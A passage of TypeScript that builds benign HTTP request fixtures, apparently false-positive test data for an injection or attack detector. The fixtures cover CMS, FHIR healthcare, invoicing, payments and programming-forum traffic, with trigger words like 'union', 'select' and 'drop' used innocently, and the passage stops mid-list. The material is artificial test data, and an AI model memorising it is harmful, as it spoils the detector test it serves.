      value: nth(['Photo © 2026 Inkwell', 'Quelle: eigene Darstellung', "L'équipe à Lyon"], i),
    },
    { name: 'fileInfo', value: json({ name: file, folder: int(1, 40), alternativeText: desc }) },
  ]);
  addClean('multipart', 'POST', i % 2 === 0 ? '/api/upload' : '/wp-json/wp/v2/media', ct, body, 'browser');
}
// Localized content (12)
for (let i = 0; i < 12; i++) {
  const [loc, title, text] = nth(LOCALES, i);
  addClean(
    'i18n',
    i % 2 === 0 ? 'PUT' : 'POST',
    i % 2 === 0
      ? `/api/articles/${int(1, 500)}?locale=${loc.slice(0, 2)}`
      : `/api/articles/${int(1, 500)}/localizations`,
    JU,
    json({
      data: {
        title,
        slug: `${nth(SLUGS, 0)}-${loc.slice(0, 2)}`,
        locale: loc.slice(0, 2),
        body: `<p>${text}</p>\n<p><a href="/${loc.slice(0, 2)}/shop?utm_campaign=spring">${nth(['Jetzt entdecken', 'Découvrir', 'Descubrir', 'Descobrir', '詳しく見る', 'Odkryj', 'Keşfet', 'اكتشف', 'Khám phá', 'Подробнее'], i)} →</a></p>`,
        seo: { metaTitle: title, metaDescription: text.slice(0, 120) },
      },
    }),
    'browser',
  );
}
// JSON:API (Drupal-style) writes and reads (9)
for (let i = 0; i < 9; i++) {
  if (i % 3 === 2) {
    addClean(
      'json-api',
      'GET',
      `/jsonapi/node/article?${qs([
        ['filter[status]', '1'],
        ['filter[title][operator]', 'CONTAINS'],
        ['filter[title][value]', nth(['Union', 'select', 'drop', "O'Connor"], i)],
        ['include', 'field_image,uid'],
        ['sort', '-created'],
        ['page[limit]', '10'],
        ['fields[node--article]', 'title,body,path'],
      ])}`,
      null,
      '',
      'any',
      { accept: JSONAPI },
    );
    continue;
  }
  addClean(
    'json-api',
    i % 2 === 0 ? 'POST' : 'PATCH',
    i % 2 === 0 ? '/jsonapi/node/article' : `/jsonapi/node/article/${uuid()}`,
    JSONAPI,
    json({
      data: {
        type: 'node--article',
        attributes: {
          title: nth(HEADLINES, i + 3),
          body: {
            value: nth(WP_BLOCKS, i)(i).replace(/<!--[\s\S]*?-->\n?/g, ''),
            format: 'full_html',
            summary: nth(COPY, i),
          },
          path: { alias: `/blog/${nth(SLUGS, i + 3)}`, langcode: 'en' },
          moderation_state: nth(['draft', 'published', 'review'], i),
        },
        relationships: {
          field_tags: { data: [{ type: 'taxonomy_term--tags', id: uuid() }] },
          uid: { data: { type: 'user--user', id: uuid() } },
        },
      },
    }),
    'sdk',
    { accept: JSONAPI },
  );
}
// CMS GraphQL (8)
const CMS_GQL = [
  {
    query:
      'query BlogPost($slug: String!, $locale: String, $preview: Boolean = false) {\n  blogPostCollection(where: { slug: $slug }, locale: $locale, preview: $preview, limit: 1) {\n    items {\n      title\n      body { json links { assets { block { sys { id } url title width height } } } }\n      seo { metaTitle metaDescription }\n    }\n  }\n}',
    v: (i: number) => ({
      slug: nth(SLUGS, i),
      locale: nth(['en-US', 'de-DE', 'fr-FR'], i),
      preview: i % 2 === 0,
    }),
  },
  {
    query:
      'mutation UpdateLandingPage($id: ID!, $data: LandingPageInput!) {\n  updateLandingPage(id: $id, data: $data) {\n    data { id attributes { title updatedAt } }\n  }\n}',
    v: (i: number) => ({
      id: String(int(1, 99)),
      data: {
        title: nth(HEADLINES, i),
        hero: {
          headline: nth(HEADLINES, i + 1),
          subline: nth(COPY, i),
          ctaLabel: 'Select your plan →',
          ctaUrl: '/pricing?billing=yearly',
        },
        sections: [{ __typename: 'ComponentSectionsRichText', content: nth(TINYMCE, i) }],
      },
    }),
  },
];
for (let i = 0; i < 5; i++) {
  const g = nth(CMS_GQL, i);
  addClean('graphql', 'POST', '/graphql', J, json({ query: g.query, variables: g.v(i) }), 'any');
}
// Publish webhooks from the CMS to the site builder (4)
for (let i = 0; i < 4; i++) {
  addClean(
    'webhook',
    'POST',
    '/hooks/cms/publish',
    'application/vnd.contentful.management.v1+json',
    json({
      sys: {
        type: 'Entry',
        id: hex(22),
        space: { sys: { type: 'Link', linkType: 'Space', id: 'k8x2m9' } },
        environment: { sys: { id: 'master', type: 'Link', linkType: 'Environment' } },
        contentType: { sys: { type: 'Link', linkType: 'ContentType', id: 'blogPost' } },
        revision: int(1, 50),
        updatedAt: `${day()}T10:${int(10, 59)}:00.000Z`,
      },
      fields: { title: { 'en-US': nth(HEADLINES, i) }, slug: { 'en-US': nth(SLUGS, i) } },
    }),
    'hook',
    {
      'user-agent': 'Contentful-Webhook/1.0',
      'x-contentful-topic': nth(
        [
          'ContentManagement.Entry.publish',
          'ContentManagement.Entry.unpublish',
          'ContentManagement.Entry.save',
        ],
        i,
      ),
      'x-contentful-webhook-name': 'Netlify rebuild',
      'x-contentful-signature': hex(64),
    },
  );
}
// Marketing forms (12)
const CONTACT_MESSAGES = [
  "Hi, we're a 40-person agency in Lyon looking to migrate 12 WordPress sites. Could you send pricing for the Team plan (annual)? Merci !",
  'Hello — the newsletter sign-up on /de/ shows "Fehler 500" when the e-mail contains a + (e.g. anna+news@web.de).',
  "Please delete my data per GDPR Art. 17. Account e-mail: o'brien.k@example.ie. Thanks.",
  'Can I select a different billing date? We pay all invoices on the 1st & 15th. PO #44821.',
  'Your union-made tote bags — do you ship to Canada? Order for 200 units, need them by 03/15.',
  '¿Tienen descuento para ONGs? Somos una fundación en Bogotá (NIT 900.123.456-7).',
];
for (let i = 0; i < 12; i++) {
  const r = i % 3;
  if (r === 0)
    addClean(
      'form',
      'POST',
      '/forms/contact',
      FORM,
      form({
        name: nth(
          [
            "Kieran O'Brien",
            'Zoë Ñúñez-García',
            'Nguyễn Thị Hạnh',
            'Jean-Luc Lefèvre',
            'Małgorzata Wiśniewska',
          ],
          i,
        ),
        email: nth(
          ['k.obrien@example.ie', 'zoe.nunez@example.es', 'hanh.nguyen@example.vn', 'jl@lefevre.example.fr'],
          i,
        ),
        company: nth(['Agence Lumière & Co.', 'Müller-Lüdenscheidt GmbH', 'Fundación Niños del Sol'], i),
        message: nth(CONTACT_MESSAGES, i),
        consent: 'on',
        'cf-turnstile-response': `0.${hex(40)}`,
      }),
      'browser',
    );
  else if (r === 1)
    addClean(
      'form',
      'POST',
      '/forms/newsletter',
      FORM,
      form({
        EMAIL: nth(
          ['anna+news@web.example.de', "d'angelo.m@example.it", 'søren@example.dk', 'x.y@example.co.uk'],
          i,
        ),
        FNAME: nth(['Anna', "D'Angelo", 'Søren', 'Zoë'], i),
        'group[1234][1]': '1',
        b_f2d244c0df42a0431bd08ddea_aa0c8a1d7c: '',
        utm_source: 'instagram',
        utm_campaign: 'spring 2026 – launch',
      }),
      'browser',
    );
  else
    addClean(
      'form',
      'POST',
      '/forms/demo-request',
      FORM,
      form({
        first_name: nth(['Hélène', 'Seán', 'Björn', 'Aoife'], i),
        last_name: nth(["Dubois-O'Neill", 'Ó Súilleabháin', 'Þórsson', 'Mac Giolla Phádraig'], i),
        phone: nth(['+33 6 12 34 56 78', '+353 (0)87 123 4567', '+1 (415) 555-0134'], i),
        team_size: nth(['1-10', '11-50', '51-200', '500+'], i),
        use_case: nth(CONTACT_MESSAGES, i + 1),
        referrer: 'https://www.google.com/',
      }),
      'browser',
    );
}
// Theme custom CSS (excluded field) (4)
for (let i = 0; i < 4; i++) {
  addClean(
    'code',
    'POST',
    '/wp-json/wp/v2/settings',
    J,
    json({
      custom_css: nth(CUSTOM_CSS, i),
      title: 'Inkwell',
      description: 'Headless content, beautifully delivered',
    }),
    'browser',
    { 'x-wp-nonce': hex(10) },
  );
}

// ================================================================================= (2) healthcare / fintech B2B

const PATIENTS: readonly (readonly [string[], string, string])[] = [
  [['Kieran', 'Patrick'], "O'Brien", 'male'],
  [['Zoë'], 'Ñúñez-García', 'female'],
  [['Thị', 'Hạnh'], 'Nguyễn', 'female'],
  [['Jean-Luc'], "D'Amboise", 'male'],
  [['Małgorzata'], 'Wiśniewska', 'female'],
  [['Björn'], 'Þórsson', 'male'],
  [['Aoife'], 'Ní Bhriain', 'female'],
  [['Jürgen'], 'Müller-Lüdenscheidt', 'male'],
  [['François', 'Xavier'], "de l'Isle-Adam", 'male'],
  [['Çağla'], 'Öztürk', 'female'],
  [['Dmitri'], 'Ivanov', 'male'],
  [['Siobhán'], "O'Sullivan-Mac Carthy", 'female'],
  [['José', 'María'], 'Pérez y Sánchez', 'male'],
  [['Ngozi'], 'Okonkwo-Adébáyọ̀', 'female'],
  [['Åsa'], 'Lindqvist', 'female'],
];
const ADDRESSES: readonly (readonly [string[], string, string, string])[] = [
  [['12 Rue de l’Église', 'Bât. B, 3e étage'], 'Lyon', '69002', 'FR'],
  [["Apt 4B, 221 O'Connell St."], 'Dublin 1', 'D01 F5P2', 'IE'],
  [['Königstraße 14a', 'c/o Praxis Dr. Weiß'], 'Stuttgart', '70173', 'DE'],
  [['Calle de Alcalá, 48, 2º izq.'], 'Madrid', '28014', 'ES'],
  [['1600 Amphitheatre Pkwy #300'], 'Mountain View, CA', '94043', 'US'],
  [['ul. Świętokrzyska 30/63'], 'Warszawa', '00-116', 'PL'],
  [['PO Box 1234', 'Unit 5 & 6, Harbour View'], 'Auckland', '1010', 'NZ'],
];
const CLINICAL_NOTES = [
  'S: 54 y/o M c/o SOB x3 days, worse on exertion; denies CP. PMH: HTN, T2DM (HbA1c 7.8% on 09/2026). O: BP 142/88, HR 96, SpO2 94% on RA, T 38.1 °C. A: CAP, r/o PE (Wells score 1.5). P: CXR, CBC, CRP; amoxicillin 1 g PO TID x 7 d; f/u 1 wk.',
  'Pt seen for annual physical. Wt 82.4 kg (-3.1 kg vs 2025), BMI 26.9. LDL 3.4 mmol/L. Counselled re: diet & exercise. Flu shot given (0.5 mL IM, L deltoid, lot #FL2026-0831). Next visit in 12 months.',
  'Post-op day 2 s/p lap chole. Pain 3/10, tolerating PO. Incisions c/d/i. Drain output < 20 mL/24 h → removed. D/c home with paracetamol 1 g q6h PRN (max 4 g/day) & ibuprofen 400 mg q8h with food.',
  "Referred by Dr. O'Malley for eval of L knee pain ≥ 6 mo. MRI (11/2026): grade II MCL sprain, no meniscal tear. Plan: PT 2x/wk x 6 wks, NSAIDs, RTC in 6 wks; consider injection if < 50% improvement.",
  "Child, 7 y/o, brought by mother (Mrs. D'Souza) with otalgia R ear x2 d, fever 38.9 °C. TM bulging & erythematous. Dx: AOM (H66.91). Rx: amoxicillin 80–90 mg/kg/day ÷ BID x 10 d. Return if no improvement in 48–72 h.",
  'Telehealth f/u: anxiety (F41.1) improving on sertraline 50 mg qd, GAD-7 down from 14 → 8. Sleep ~6 h/night. Continue current dose; CBT referral sent. Pt aware of crisis line 988.',
  'ED note: MVC, restrained driver, GCS 15. C-spine cleared per NEXUS. Abrasion R forearm 4 × 2 cm, irrigated w/ 500 mL NS, dressed. Tdap up to date (2022). Discharged with wound-care instructions.',
  'Lab: Na 134 (L), K 5.6 (H) — repeat drawn, likely hemolysed. Cr 1.42 mg/dL (eGFR 52, CKD 3a). Hold lisinopril until repeat K < 5.0; recheck BMP in 3 days.',
  'Prior auth: MRI lumbar spine w/o contrast (CPT 72148) for L radiculopathy (M54.16) after 6 wks failed conservative tx (PT + NSAIDs). Red flags: none. Request 1 unit, DOS 2026-12-02.',
  'Physio note: ROM R shoulder flex 120°/180°, abd 95°. Strength 4-/5. Pt reports "it\'s getting better, but I still can\'t reach the top shelf". HEP updated; 8 sessions remaining of 12.',
];
const ICD = [
  'J18.9',
  'E11.65',
  'I10',
  'M54.16',
  'H66.91',
  'F41.1',
  'S52.501A',
  'Z23',
  'K80.20',
  'N18.31',
  'R06.02',
  'M25.562',
];
const CPT = ['99213', '99214', '71046', '72148', '90686', '47562', '97110', '85025', '80048', '99283'];
const IBANS = [
  'DE89 3704 0044 0532 0130 00',
  'FR14 2004 1010 0505 0001 3M02 606',
  'GB29 NWBK 6016 1331 9268 19',
  'ES91 2100 0418 4502 0005 1332',
  'IE29AIBK93115212345678',
  'NL91ABNA0417164300',
  'PL61 1090 1014 0000 0712 1981 2874',
  'CH93 0076 2011 6238 5295 7',
];
const ACCOUNTING_NOTES = [
  'Net 30; 2% discount if paid within 10 days (2/10 n/30). Late fee 1.5%/month on overdue balances.',
  'Partial payment received 11/14 (€4,500.00 of €12,340.56). Balance due by 12/01. Ref. INV-2026-0042 & PO #4471.',
  'Reverse charge — VAT to be accounted for by the recipient (Art. 196 Directive 2006/112/EC). USt-IdNr. DE123456789.',
  "Credit note CN-0087 issued for damaged goods (3 × SKU 88-112 @ $49.99). Please offset against next invoice; don't refund.",
  'Q4 accrual: est. hosting $18.2k (+7% QoQ), reconcile with AWS CUR once the 12/03 export lands. Cost centre 4410-OPS.',
  'Wire fee (€15) deducted by the intermediary bank — customer to cover per T&Cs § 7.3. Difference written off to 6855.',
  'Split across 3 entities: 60% Ledgerline GmbH / 25% Ledgerline SAS / 15% Ledgerline Ltd. FX rate ECB 1.0842 on 2026-11-28.',
  "Select 'Paid' only after the bank confirms; the union of both statements shows the duplicate 3,210.00 on 11/02 (bank error, ticket #88213).",
  "Drop-ship order, billed on behalf of O'Neill & Sons Ltd.; 10% withholding tax (WHT) applies — certificate attached.",
  'Amount in words: one thousand two hundred thirty-four euros and 56/100. Payable to Société Générale, BIC SOGEFRPP.',
];
const REMITTANCE = [
  'INV-2026-0042 / PO 4471',
  'Rechnung Nr. 2026/1183 vom 14.11.2026, Kd-Nr. 40021',
  'Facture F-26-00912 — acompte 30 %',
  "Payment for claims batch 2026-11 (n=342); ref O'BRIEN/K",
  'SEPA SCT Ref: EREF+NOTPROVIDED SVWZ+Miete 12/2026',
  'Factura 2026-A/0045; 21% IVA incluido',
];
const money = (): string => (int(1000, 2500000) / 100).toFixed(2);

// FHIR Patient create/update (10)
for (let i = 0; i < 10; i++) {
  const [given, family, gender] = nth(PATIENTS, i);
  const [line, city, postal, country] = nth(ADDRESSES, i);
  addClean(
    'patient',
    i % 3 === 0 ? 'PUT' : 'POST',
    i % 3 === 0 ? `/fhir/R4/Patient/${uuid()}` : '/fhir/R4/Patient',
    FHIR,
    json({
      resourceType: 'Patient',
      identifier: [{ system: 'urn:oid:2.16.840.1.113883.2.4.6.3', value: String(int(100000000, 999999999)) }],
      active: true,
      name: [{ use: 'official', family, given, prefix: i % 4 === 0 ? ['Dr.'] : [] }],
      telecom: [
        {
          system: 'phone',
          value: nth(['+353 87 123 4567', '+49 (0)711 123-45', '+1 (415) 555-0199'], i),
          use: 'mobile',
        },
        {
          system: 'email',
          value: `${given[0]
            ?.toLowerCase()
            .normalize('NFD')
            .replace(/[^a-z]/g, '')}.${i}@example.org`,
        },
      ],
      gender,
      birthDate: `19${int(40, 99)}-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`,
      address: [{ use: 'home', line, city, postalCode: postal, country }],
      contact:
        i % 2 === 0
          ? [
              {
                relationship: [{ text: 'next of kin' }],
                name: { text: nth(["Mary O'Brien (wife)", 'Lukas Müller – Sohn', 'Ana Pérez (hija)'], i) },
              },
            ]
          : [],
      communication: [
        {
          language: {
            coding: [{ system: 'urn:ietf:bcp:47', code: nth(['en-IE', 'es-ES', 'vi', 'fr-FR', 'pl'], i) }],
          },
          preferred: true,
        },
      ],
    }),
    'sdk',
    { accept: FHIR },
  );
}
// Claims with codes and clinical notes (12)
for (let i = 0; i < 12; i++) {
  const [given, family] = nth(PATIENTS, i + 3);
  addClean(
    'claim',
    'POST',
    '/api/v2/claims',
    J,
    json({
      patient: {
        name: `${given.join(' ')} ${family}`,
        memberId: `MBR-${int(1000000, 9999999)}`,
        dob: `19${int(40, 99)}-0${int(1, 9)}-1${int(0, 9)}`,
      },
      provider: {
        npi: String(int(1000000000, 1999999999)),
        name: nth(
          [
            "St. Mary's Hospital",
            "Dr. O'Malley's Family Practice",
            'Klinikum Stuttgart – Katharinenhospital',
          ],
          i,
        ),
      },
      serviceDate: day(),
      diagnoses: [nth(ICD, i), nth(ICD, i + 5)].map((code, n) => ({
        sequence: n + 1,
        code,
        system: 'ICD-10-CM',
      })),
      lines: [
        { cpt: nth(CPT, i), modifiers: i % 3 === 0 ? ['25'] : [], units: 1, charge: money() },
        { cpt: nth(CPT, i + 4), units: int(1, 4), charge: money() },
      ],
      notes: nth(CLINICAL_NOTES, i),
      attachments:
        i % 4 === 0
          ? [{ contentType: 'text/plain', title: 'progress-note.txt', data: b64(nth(CLINICAL_NOTES, i + 1)) }]
          : [],
    }),
    'sdk',
  );
}
// Clinical notes as FHIR DocumentReference / Observation (6)
for (let i = 0; i < 6; i++) {
  addClean(
    'clinical-note',
    'POST',
    i % 2 === 0 ? '/fhir/R4/DocumentReference' : '/fhir/R4/Observation',
    FHIR,
    i % 2 === 0
      ? json({
          resourceType: 'DocumentReference',
          status: 'current',
          type: { coding: [{ system: 'http://loinc.org', code: '11506-3', display: 'Progress note' }] },
          subject: { reference: `Patient/${uuid()}` },
          date: `${day()}T14:32:00+01:00`,
          content: [
            {
              attachment: { contentType: 'text/plain; charset=utf-8', data: b64(nth(CLINICAL_NOTES, i + 2)) },
            },
          ],
          description: nth(CLINICAL_NOTES, i + 5).slice(0, 90),
        })
      : json({
          resourceType: 'Observation',
          status: 'final',
          code: {
            coding: [
              {
                system: 'http://loinc.org',
                code: nth(['8480-6', '2160-0', '4548-4', '59408-5'], i),
                display: nth(['Systolic BP', 'Creatinine', 'HbA1c', 'SpO2'], i),
              },
            ],
          },
          subject: { reference: `Patient/${uuid()}` },
          valueQuantity: {
            value: nth([142, 1.42, 7.8, 94], i),
            unit: nth(['mm[Hg]', 'mg/dL', '%', '%'], i),
            system: 'http://unitsofmeasure.org',
          },
          interpretation: [{ text: nth(['High', 'H', 'Above target (< 7%)', 'Low-normal on room air'], i) }],
          note: [{ text: nth(CLINICAL_NOTES, i + 7) }],
        }),
    'sdk',
    { accept: FHIR },
  );
}
// Invoices (10)
for (let i = 0; i < 10; i++) {
  addClean(
    'invoice',
    'POST',
    '/api/v1/invoices',
    J,
    json({
      number: `INV-2026-${String(int(1, 9999)).padStart(4, '0')}`,
      customer: {
        name: nth(
          [
            "O'Neill & Sons Ltd.",
            'Müller-Lüdenscheidt GmbH',
            'Société Générale d’Équipement SAS',
            'Pérez y Asociados, S.L.',
            'Łódź Logistics Sp. z o.o.',
          ],
          i,
        ),
        vatId: nth(['IE6388047V', 'DE123456789', 'FR40303265045', 'ESB12345678', 'PL5260250995'], i),
        address: {
          lines: nth(ADDRESSES, i)[0],
          city: nth(ADDRESSES, i)[1],
          postalCode: nth(ADDRESSES, i)[2],
          country: nth(ADDRESSES, i)[3],
        },
      },
      issueDate: day(),
      dueDate: day(),
      currency: nth(['EUR', 'GBP', 'USD', 'PLN', 'CHF'], i),
      lines: [
        {
          description: nth(
            [
              'Consulting — 12.5 h @ €140/h',
              'Licence "Team" (25 seats) 12/2026–11/2027',
              'Hosting & support, 99.95% SLA',
              'Travel expenses (Dublin ↔ Lyon) incl. 7% VAT',
            ],
            i,
          ),
          quantity: int(1, 25),
          unitPrice: money(),
          taxRate: nth([19, 20, 21, 23, 0], i),
        },
        {
          description: 'Discount 10% (loyalty)',
          quantity: 1,
          unitPrice: `-${money()}`,
          taxRate: nth([19, 20, 21, 23, 0], i),
        },
      ],
      notes: nth(ACCOUNTING_NOTES, i),
      paymentTerms: nth(['Net 30', '2/10 n/30', 'Due on receipt', '50% upfront, 50% on delivery'], i),
      bankAccount: {
        iban: nth(IBANS, i),
        bic: nth(['COBADEFFXXX', 'BNPAFRPPXXX', 'NWBKGB2L', 'CAIXESBBXXX'], i),
      },
    }),
    i % 3 === 0 ? 'browser' : 'sdk',
  );
}
// Payments (10)
for (let i = 0; i < 10; i++) {
  const [given, family] = nth(PATIENTS, i + 1);
  addClean(
    'payment',
    'POST',
    '/api/v1/payments',
    J,
    json({
      amount: { value: money(), currency: 'EUR' },
      debtor: { name: `${given[0]} ${family}`, iban: nth(IBANS, i + 2).replace(/ /g, '') },
      creditor: {
        name: 'Ledgerline Health Services GmbH',
        iban: nth(IBANS, 0).replace(/ /g, ''),
        bic: 'COBADEFFXXX',
      },
      remittanceInformation: nth(REMITTANCE, i),
      endToEndId: `E2E-${hex(12).toUpperCase()}`,
      requestedExecutionDate: day(),
      purpose: nth(['MDCS', 'SUPP', 'SALA', 'GDDS'], i),
      metadata: { invoice: `INV-2026-${int(1, 9999)}`, note: nth(ACCOUNTING_NOTES, i + 3) },
    }),
    'sdk',
    { 'idempotency-key': uuid() },
  );
}
// Merge-patch updates (9)
for (let i = 0; i < 9; i++) {
  const r = i % 3;
  addClean(
    'merge-patch',
    'PATCH',
    r === 0
      ? `/api/v2/patients/${uuid()}`
      : r === 1
        ? `/api/v1/invoices/INV-2026-${int(1, 9999)}`
        : `/api/cart/${hex(16)}`,
    MERGE,
    r === 0
      ? json({
          address: { line: nth(ADDRESSES, i)[0], city: nth(ADDRESSES, i)[1] },
          phone: null,
          preferredName: nth(["Kit O'Brien", 'Zoë', 'Hạnh', 'J-L'], i),
          allergies: nth(
            [['penicillin (rash)', 'latex'], ['none known'], ['NSAIDs — bronchospasm', 'shellfish']],
            i,
          ),
        })
      : r === 1
        ? json({
            status: nth(['paid', 'partially_paid', 'void'], i),
            notes: nth(ACCOUNTING_NOTES, i + 1),
            dueDate: day(),
            purchaseOrder: null,
          })
        : json({
            items: {
              [`SKU-${int(10000, 99999)}`]: { quantity: int(1, 3) },
              [`SKU-${int(10000, 99999)}`]: null,
            },
            couponCode: nth(['SPRING20', 'WELCOME-10', null], i),
            giftMessage: nth(['Happy b-day, Seán! 🎂', "Joyeux Noël ! De la part d'Hélène", null], i),
          }),
    r === 2 ? 'browser' : 'sdk',
  );
}
// NDJSON bulk imports: FHIR $import and bank transactions (4)
for (let i = 0; i < 4; i++) {
  const lines: string[] = [];
  for (let n = 0; n < 4; n++) {
    if (i % 2 === 0) {
      const [given, family, gender] = nth(PATIENTS, i * 5 + n);
      lines.push(
        json({
          resourceType: 'Patient',
          id: `p${i}${n}`,
          name: [{ family, given }],
          gender,
          address: [{ city: nth(ADDRESSES, n)[1], country: nth(ADDRESSES, n)[3] }],
        }),
      );
    } else
      lines.push(
        json({
          bookingDate: day(),
          amount: (rnd() < 0.5 ? '-' : '') + money(),
          currency: 'EUR',
          counterparty: nth(
            ["O'Neill & Sons Ltd.", 'Müller-Lüdenscheidt GmbH', 'AMAZON EU SARL', 'Stadtwerke München'],
            n,
          ),
          counterpartyIban: nth(IBANS, n).replace(/ /g, ''),
          remittance: nth(REMITTANCE, i + n),
        }),
      );
  }
  addClean(
    'ndjson',
    'POST',
    i % 2 === 0 ? '/fhir/R4/$import' : '/api/v1/bank-feeds/transactions:bulk',
    i % 2 === 0 ? 'application/fhir+ndjson' : NDJSON,
    `${lines.join('\n')}\n`,
    'sdk',
  );
}
// Payment webhooks (6)
for (let i = 0; i < 6; i++) {
  if (i % 2 === 0)
    addClean(
      'webhook',
      'POST',
      '/hooks/stripe',
      JU,
      json({
        id: `evt_${hex(24)}`,
        object: 'event',
        api_version: '2024-11-20.acacia',
        type: nth(
          [
            'payment_intent.succeeded',
            'invoice.paid',
            'charge.refunded',
            'customer.updated',
            'invoice.payment_failed',
          ],
          i,
        ),
        data: {
          object: {
            id: `pi_${hex(24)}`,
            amount: int(500, 250000),
            currency: 'eur',
            description: nth(REMITTANCE, i),
            metadata: {
              order_id: String(int(10000, 99999)),
              customer_name: nth(["Kieran O'Brien", 'Zoë Ñúñez'], i),
            },
            billing_details: { address: { line1: nth(ADDRESSES, i)[0][0], city: nth(ADDRESSES, i)[1] } },
            last_payment_error:
              i === 8 ? { message: "Your card's security code is incorrect.", code: 'incorrect_cvc' } : null,
          },
        },
      }),
      'hook',
      {
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        'stripe-signature': `t=${int(1730000000, 1765000000)},v1=${hex(64)}`,
      },
    );
  else
    addClean(
      'webhook',
      'POST',
      '/hooks/adyen',
      J,
      json({
        live: 'false',
        notificationItems: [
          {
            NotificationRequestItem: {
              additionalData: {
                hmacSignature: b64(hex(32)),
                shopperName: nth(
                  [
                    "[first name=Siobhán, last name=O'Sullivan]",
                    '[first name=José, last name=Pérez y Sánchez]',
                  ],
                  i,
                ),
                paymentLinkId: `PL${hex(14).toUpperCase()}`,
              },
              amount: { currency: 'EUR', value: int(500, 250000) },
              eventCode: nth(['AUTHORISATION', 'REFUND', 'CHARGEBACK'], i),
              merchantReference: nth(REMITTANCE, i),
              pspReference: String(int(100000000, 999999999)),
              reason: nth(['null', 'Refused', '063022:1111:03/2030'], i),
              success: 'true',
            },
          },
        ],
      }),
      'hook',
      { 'user-agent': 'Adyen HttpClient 1.0' },
    );
}
// B2B searches (10)
const B2B_READS = [
  `/fhir/R4/Patient?family=${enc("O'Brien")}&given=Kieran&birthdate=ge1960-01-01&_count=20`,
  `/fhir/R4/Patient?name=${enc('Nguyễn')}&address-city=${enc('Hồ Chí Minh')}`,
  `/fhir/R4/Observation?patient=${uuid()}&code=http://loinc.org|4548-4&date=gt2026-01-01&_sort=-date`,
  `/fhir/R4/Condition?code=${enc('http://hl7.org/fhir/sid/icd-10-cm|E11.65')}&_include=Condition:subject`,
  `/api/v1/invoices?status=overdue&customer=${enc("O'Neill & Sons")}&amount[gte]=1000&sort=-dueDate`,
  `/api/v1/payments?iban=${enc('DE89370400440532013000')}&from=2026-11-01&to=2026-11-30&select=amount,remittance`,
  `/api/v2/claims?diagnosis=${enc('J18.9,J18.1')}&status=denied&reason=${enc('CO-97: bundled')}`,
  `/api/v1/reports/ar-aging?asOf=2026-11-30&buckets=${enc('0-30,31-60,61-90,>90')}&currency=EUR`,
  `/api/v1/invoices?q=${enc('"reverse charge" AND vat')}&page=2`,
  `/api/v2/patients?q=${enc('Müller-Lüdenscheidt')}&dob=1961-04-12`,
];
for (const p of B2B_READS)
  addClean('b2b-query', 'GET', p, null, '', 'sdk', { accept: p.startsWith('/fhir') ? FHIR : J });
// Statement / document uploads (3)
for (let i = 0; i < 3; i++) {
  const csv = [
    'Buchungstag;Valuta;Auftraggeber/Empfänger;Verwendungszweck;Betrag;Währung',
    `28.11.2026;28.11.2026;"O'Neill & Sons Ltd.";"INV-2026-0042 / PO 4471";-1.234,56;EUR`,
    '27.11.2026;27.11.2026;"Müller-Lüdenscheidt GmbH";"Rechnung 2026/1183, Skonto 2%";12.094,75;EUR',
    `26.11.2026;26.11.2026;"AMAZON EU SARL";"Bestellung 302-1234567-7654321";-89,99;EUR`,
  ].join('\r\n');
  const [ct, body] = multipart([
    {
      name: 'file',
      filename: nth(['kontoauszug_11-2026.csv', 'statement (Nov).csv', 'relevé_novembre.csv'], i),
      type: 'text/csv',
      value: csv,
    },
    { name: 'account', value: nth(IBANS, i).replace(/ /g, '') },
    { name: 'format', value: 'csv;delimiter=";";decimal=","' },
    { name: 'comment', value: nth(ACCOUNTING_NOTES, i + 2) },
  ]);
  addClean('multipart', 'POST', '/api/v1/bank-feeds/upload', ct, body, 'browser');
}

// ================================================================================= (3) Q&A / forum / education

const Q_TITLES = [
  'How do I select rows where a column is NULL or empty in PostgreSQL?',
  'Why does `rm -rf $DIR/` delete everything when $DIR is unset?',
  'Python subprocess: how to pipe the output of one command into another?',
  'UNION vs UNION ALL — which one is faster and why?',
  "How to escape a single quote in a SQL string (O'Brien)?",
  'JavaScript: why does `[] + {}` return "[object Object]"?',
  'Bash: iterate over files with spaces in their names',
  'How to prove that $\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}$ by induction?',
  'C: what is the difference between `char *s` and `char s[]`?',
  'Rust borrow checker: cannot borrow `*self` as mutable more than once',
  'DELETE with JOIN in MySQL: "You can\'t specify target table for update in FROM clause"',
  'Go: how to read a file line by line?',
  'PowerShell: how to find and delete files older than 30 days?',
  'How can I drop a column in pandas if it exists?',
  'Regex to match an email address — why is this so hard?',
  'Docker: "permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock"',
  'Why is my `ORDER BY` ignored inside a subquery?',
  'How to compute the eigenvalues of a 2×2 matrix by hand?',
  'PHP: prepared statements with IN (...) and an array of ids',
  'Java: Runtime.exec() hangs when the process writes a lot of output',
];
const FENCES: readonly (readonly [string, string])[] = [
  [
    'sql',
    "SELECT c.name, COUNT(o.id) AS orders\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id\nWHERE o.created_at >= NOW() - INTERVAL '30 days'\nGROUP BY c.name\nHAVING COUNT(o.id) > 5\nORDER BY orders DESC;",
  ],
  ['sql', "SELECT * FROM users WHERE email IS NULL OR email = '';"],
  ['sql', 'DELETE t1 FROM orders t1\nINNER JOIN orders t2 ON t1.ref = t2.ref AND t1.id > t2.id;'],
  [
    'sql',
    "INSERT INTO authors (name) VALUES ('O''Brien');\n-- or, better, with a parameter:\n-- cursor.execute(\"INSERT INTO authors (name) VALUES (%s)\", (name,))",
  ],
  ['sql', 'SELECT id FROM a\nUNION ALL\nSELECT id FROM b;'],
  [
    'sql',
    'WITH RECURSIVE tree AS (\n  SELECT id, parent_id, 1 AS depth FROM nodes WHERE parent_id IS NULL\n  UNION ALL\n  SELECT n.id, n.parent_id, t.depth + 1 FROM nodes n JOIN tree t ON n.parent_id = t.id\n)\nSELECT * FROM tree ORDER BY depth;',
  ],
  [
    'sql',
    "ALTER TABLE invoices DROP COLUMN IF EXISTS legacy_ref;\nUPDATE invoices SET status = 'paid' WHERE paid_at IS NOT NULL;",
  ],
  ['bash', 'for f in *.csv; do\n  iconv -f latin1 -t utf-8 "$f" > "utf8/$f"\ndone'],
  ['bash', 'find . -name "*.log" -mtime +7 -exec rm {} \\;'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
